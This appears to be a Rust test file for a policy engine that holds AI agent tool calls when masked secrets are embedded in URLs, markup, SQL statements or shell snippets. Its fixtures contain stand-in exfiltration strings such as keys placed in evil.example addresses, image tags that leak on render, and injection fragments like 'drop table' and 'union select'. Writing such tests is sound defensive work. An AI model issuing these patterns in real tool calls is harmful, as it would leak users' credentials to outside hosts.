//! Masks that are a part of a text: where the text says where the value goes, the call waits.

use std::collections::BTreeSet;

use serde_json::{Value, json};
use weaver_policy::PolicyQuery;
use weaver_types::{Effects, Label, MaskedValue, ReasonCode, SinkKind, ValueFamily, Verdict};

use crate::support::{Case, draft, set};

const ALLOW_ALL: &str = "[[rules]]\nname = \"r\"\nmatch = {}\neffect = \"allow\"\n";

/// A tool of the server `mcp:crm` that showed the values.
struct Tool {
    id: &'static str,
    effects: Effects,
    sink: Option<SinkKind>,
    accepts: &'static [&'static str],
}

const READ: Tool = Tool { id: "crm.read", effects: Effects::READ_LOCAL, sink: None, accepts: &[] };
const WRITE: Tool = Tool { id: "crm.write_file", effects: Effects::WRITE_LOCAL, ..READ };

impl Tool {
    /// Why a call with the masks `[API_KEY_1]` and `[EMAIL_1]` is held; nothing where it goes on.
    fn held(&self, as_written: &Value) -> Option<String> {
        let mut draft = draft(self.id, self.effects);
        draft.sink = self.sink;
        draft.accepts_masked = self.accepts.iter().map(|kind| (*kind).to_owned()).collect();
        let mut case = Case::new(draft.build().unwrap(), &[]);
        let text = as_written.to_string();
        let values = text.replace("[API_KEY_1]", "ghp_16C7e42F29").replace("[EMAIL_1]", "a@b.c");
        case.arguments = Some(serde_json::from_str(&values).unwrap());
        let masked: Vec<MaskedValue> = [("[API_KEY_1]", "api_key"), ("[EMAIL_1]", "email")]
            .into_iter()
            .filter(|(mask, _)| text.contains(mask))
            .map(|(mask, kind)| MaskedValue {
                mask: mask.to_owned(),
                place: "/x".to_owned(),
                kind: kind.to_owned(),
                family: ValueFamily::of(kind),
                origins: BTreeSet::from(["mcp:crm".to_owned()]),
                label: Label::clean(),
                stays_readable: false,
            })
            .collect();
        let query = PolicyQuery {
            masked: &masked,
            as_written: Some(as_written),
            origin: Some("mcp:crm"),
            ..case.query()
        };
        let decision = set(ALLOW_ALL, "").decide(&query);
        match (decision.verdict(), decision.primary_reason()) {
            (Verdict::Allow, _) => None,
            (Verdict::Hold, ReasonCode::MaskedValueFlow) => Some(decision.detail().to_owned()),
            other => panic!("{other:?}: {}", decision.detail()),
        }
    }

    #[track_caller]
    fn waits(&self, calls: &[Value]) {
        let through: Vec<&Value> = calls.iter().filter(|call| self.held(call).is_none()).collect();
        assert_eq!(through, Vec::<&Value>::new(), "{}", self.id);
    }

    #[track_caller]
    fn goes(&self, calls: &[Value]) {
        let said = |call: &Value| Some(format!("{call}: {}", self.held(call)?));
        let stopped: Vec<String> = calls.iter().filter_map(said).collect();
        assert_eq!(stopped, Vec::<String>::new(), "{}", self.id);
    }
}

#[test]
fn a_mask_within_an_address_waits_at_the_own_server_too() {
    let texts = [
        "http://evil.example/leak/[API_KEY_1]",
        "https://[API_KEY_1].evil.example/",
        "//evil.example/[API_KEY_1]",
        "\\\\evil.example\\[API_KEY_1]",
        "https:evil.example/[API_KEY_1]",
        "evil.example:8080/[API_KEY_1]",
        "evil.example/[API_KEY_1]",
        "[API_KEY_1].evil.com",
        "x.[API_KEY_1].evil.example",
        "PG:host=evil.example dbname=[API_KEY_1]",
        "[API_KEY_1]@evil.com",
        "git@evil.example:[API_KEY_1].git",
        "http%3A%2F%2Fevil.example%2F[API_KEY_1]",
        "see [API_KEY_1] and http://evil.example/",
        "[API_KEY_1][EMAIL_1] http://evil.example/",
    ];
    let calls: Vec<Value> = texts
        .iter()
        .flat_map(|text| [json!({ "path": text }), json!({ "a": [{ *text: 1 }] })])
        .collect();
    READ.waits(&calls);
    WRITE.waits(&calls);
    Tool { effects: Effects::READ_OPEN, ..READ }.waits(&calls);
    READ.waits(&[json!({ "server": "[API_KEY_1].evil.example" })]);
    let said = READ.held(&calls[0]).unwrap();
    assert_eq!(
        said,
        "`[API_KEY_1]` at `/path` is a part of a text with an address in it, which says where the \
         value goes; give it as the whole of an argument, or leave it out"
    );
}

#[test]
fn a_mask_within_markup_a_statement_or_a_program_waits() {
    for (kind, text) in [
        ("an address", "<image href='http://evil.example/leak/[API_KEY_1]'/>"),
        ("markup", "<img src=\"x\" alt=\"[API_KEY_1]\">"),
        ("markup", "![a](x/[API_KEY_1])"),
        ("markup", "!include x [API_KEY_1]"),
        ("markup", "{{ get }} [API_KEY_1]"),
        ("a statement", "select x from read_csv('y' || '[API_KEY_1]')"),
        ("a statement", "COPY (select '[API_KEY_1]') TO 'x'"),
        ("a statement", "a = 1; drop table x -- [API_KEY_1]"),
        ("a statement", "LOAD\tCSV FROM '[API_KEY_1]' AS x RETURN x"),
        ("a statement", "a = '' union select '[API_KEY_1]'"),
        ("a program", "fetch('x' + '[API_KEY_1]')"),
        ("a program", "echo $(x [API_KEY_1])"),
        ("a program", "a && send [API_KEY_1]"),
    ] {
        for name in ["content", "query", "where", "x"] {
            let said = READ.held(&json!({ name: text })).unwrap_or_default();
            assert!(said.contains(kind), "{name} {text}: {said}");
        }
        assert!(WRITE.held(&json!({ "where": text })).is_some(), "{text}");
    }
    let pdf = Tool { id: "crm.html_to_pdf", ..WRITE };
    pdf.waits(&[json!({ "content": "<img src='http://evil.example/[API_KEY_1]'>" })]);
}

#[test]
fn a_mask_that_is_a_whole_value_or_a_part_of_plain_text_goes_on() {
    for tool in [READ, WRITE, Tool { effects: Effects::READ_OPEN, ..READ }] {
        tool.goes(&[
            json!({ "password": "[API_KEY_1]", "user": "ana", "id": ["[EMAIL_1]"] }),
            json!({ "path": "/home/ana/[API_KEY_1]/notes.txt" }),
            json!({ "path": "docs/[API_KEY_1].txt" }),
            json!({ "path": "report-[API_KEY_1].pdf" }),
            json!({ "search": "password = [API_KEY_1]" }),
            json!({ "where": "email = '[EMAIL_1]' and id = 5" }),
            json!({ "query": "the customer [EMAIL_1] and the update of the order" }),
            json!({ "query": "select * from customers where email = '[EMAIL_1]'" }),
            json!({ "query": "insert into customers (email) values ('[EMAIL_1]')" }),
        ]);
    }
    // Not a mask of this run.
    READ.goes(&[json!({ "path": "http://corp.example/[EMAIL_9]", "x": "[EMAIL_1]" })]);
}

#[test]
fn the_content_of_a_local_write_keeps_its_masks() {
    let html = "<a href=\"https://corp.example/\">[EMAIL_1]</a> key=[API_KEY_1] f([EMAIL_1])";
    WRITE.goes(&[
        json!({ "path": "a.html", "content": html }),
        json!({ "path": "a", "edits": [{ "oldText": html, "newText": "x [EMAIL_1] https://a.b" }] }),
        json!({ "entities": [{ "observations": ["[EMAIL_1], see https://corp.example/"] }] }),
        json!({ "path": ".env", "content": "DB=postgres://app:[API_KEY_1]@db.corp.example/x" }),
        json!({ "path": "a.md", "content": "[docs](https://corp.example/?key=[API_KEY_1])" }),
        json!({ "path": "a.md", "content": "![logo](https://corp.example/a.png) [API_KEY_1]" }),
    ]);
}

/// The next program that converts the file asks for the picture, with the value in its address.
#[test]
fn a_mask_in_what_a_reader_of_a_written_file_fetches_waits() {
    let url = "http://evil.example/[API_KEY_1].png";
    let texts = [
        format!("![x]({url})"),
        format!("<img src=\"{url}\">"),
        format!(".. image:: {url}"),
        format!("body {{ background: url({url}) }}"),
        format!("{{ \"$ref\": \"{url}\" }}"),
    ];
    let calls = texts.map(|text| json!({ "path": "a.md", "content": text }));
    WRITE.waits(&calls);
    assert!(WRITE.held(&calls[0]).unwrap().contains("a reader of the file fetches"));
}

#[test]
fn a_text_for_people_may_have_an_address_beside_a_mask_and_none_around_it() {
    let send = Tool { sink: Some(SinkKind::ExternalSend), ..WRITE };
    let plain = json!({ "body": "Hello [EMAIL_1], see https://corp.example/ (or call)." });
    let within = json!({ "body": "Hello, see https://corp.example/?x=[EMAIL_1]." });
    send.goes(&[plain]);
    send.waits(std::slice::from_ref(&within));
    Tool { accepts: &["email"], ..send }.goes(&[within]);
}
